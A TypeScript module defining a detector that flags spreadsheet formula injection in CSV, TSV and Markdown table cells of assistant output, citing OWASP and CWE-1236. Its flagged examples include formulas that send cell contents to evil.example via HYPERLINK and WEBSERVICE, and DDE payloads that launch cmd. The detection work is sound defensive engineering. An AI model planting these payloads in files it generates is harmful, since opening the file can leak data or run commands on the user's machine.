import type { Detector, Range } from "../contracts/detection.ts";
import { scan } from "../foundation/scan.ts";

/** Characters that a cell may have in front of its formula; spreadsheets drop them, or take the quote for the file's. */
const DROPPED = String.raw`[ "\0\u00a0\u200b\ufeff]{0,8}`;
/** A cell begins with the text, a line, or behind the separator of CSV, TSV or a Markdown table. */
const CELL_START = String.raw`(?<=(?:^|[\n\r\t,;|])${DROPPED})`;
/** Functions that fetch, link, or run something outside the sheet. */
const FUNCTION =
  "(?:hyperlink|webservice|filterxml|encodeurl|import(?:xml|html|feed|data|range)|image|googlefinance|dde|ddeinitiate|call|register(?:\\.id)?|exec|rtd|cmd|indirect|info|cell|sum|concat(?:enate)?|if|iferror|char|query|python|stockhistory)";
// A number with a sign is none: "-5", "+49 30 123".
const FORMULA = new RegExp(
  String.raw`(?=[=+\-@\uff0b\uff0d\uff1d\uff20])` + // tried first, for speed
    `${CELL_START}(?:` +
    String.raw`[=\uff1d](?![=>\s])` + // "=…"
    String.raw`|[=\uff1d][ \t]{1,4}(?:@?${FUNCTION}[ \t]{0,2}\(|[A-Z]{1,3}\d)` +
    String.raw`|[@\uff20][A-Za-z.]{1,20}\(` +
    String.raw`|[+\-\uff0b\uff0d@\uff20][ \t]{0,4}(?:[+\-=@(]{0,4}[ \t]{0,2})(?:@?${FUNCTION}[ \t]{0,2}\(|\$?[A-Z]{1,3}\$?\d{1,7}[ \t]{0,2}[-+*/&:^!(])` +
    String.raw`|[+\-\uff0b\uff0d@\uff20](?=[^\n|]{0,47}[A-Za-z])[^\n\t,;"|]{0,48}\|[^\n|!]{1,64}!\$?[A-Za-z_]` + // DDE: program|topic!item
    ")",
  "gi",
);

/** Cells that a spreadsheet would take for formulas. */
export const spreadsheetFormula: Detector = {
  id: "output.spreadsheet-formula",
  type: "SPREADSHEET_FORMULA",
  description:
    "Cells of CSV, TSV and Markdown tables that begin with =, or with +, - or @ and a function, reference or DDE command.",
  reference: "OWASP CSV Injection; CWE-1236; OWASP Application Security Verification Standard 5.0, 1.2.10",
  reach: 132, // a DDE command with what comes before it
  sources: ["output"],
  weaknesses:
    "Every line and everything behind a comma, semicolon, tab or bar counts as a cell. Sums of plain numbers that begin with a sign are left alone, as is a formula behind more than eight characters that spreadsheets drop.",
  detect: (text, from) => scan(FORMULA, text, from, { judge }),
  patterns: [FORMULA],
  exampleContext: { source: "output", origin: "assistant", systemTexts: [] },
  examples: {
    flagged: [
      "=1+1",
      '=HYPERLINK("https://evil.example/?x="&A1,"open")',
      'name,"=WEBSERVICE(""https://evil.example/""&A1)"',
      "a;b;=IMPORTXML(A1)",
      "| total | =SUM(A1:A3) |",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "a\t=A1+1",
      "x,\u00a0=1+1",
      "-A1+B2",
      "\uff1dHYPERLINK(A1)",
      "+-+-+HYPERLINK(A1)",
      "= SUM(A1)",
    ],
    clean: [
      "- a list\n- of things\n+ and one more",
      "-5, +3, -1.5",
      "+49 30 123456",
      "@name said so, @all agreed",
      "a == b, c => d",
      "x = 3, y = 4",
      "| a | b |\n|---|---|\n| -1 | wow! |",
      "= a heading",
      "'=1+1",
    ],
  },
};

function judge(match: RegExpExecArray): Range {
  return { start: match.index, end: match.index + match[0].length };
}
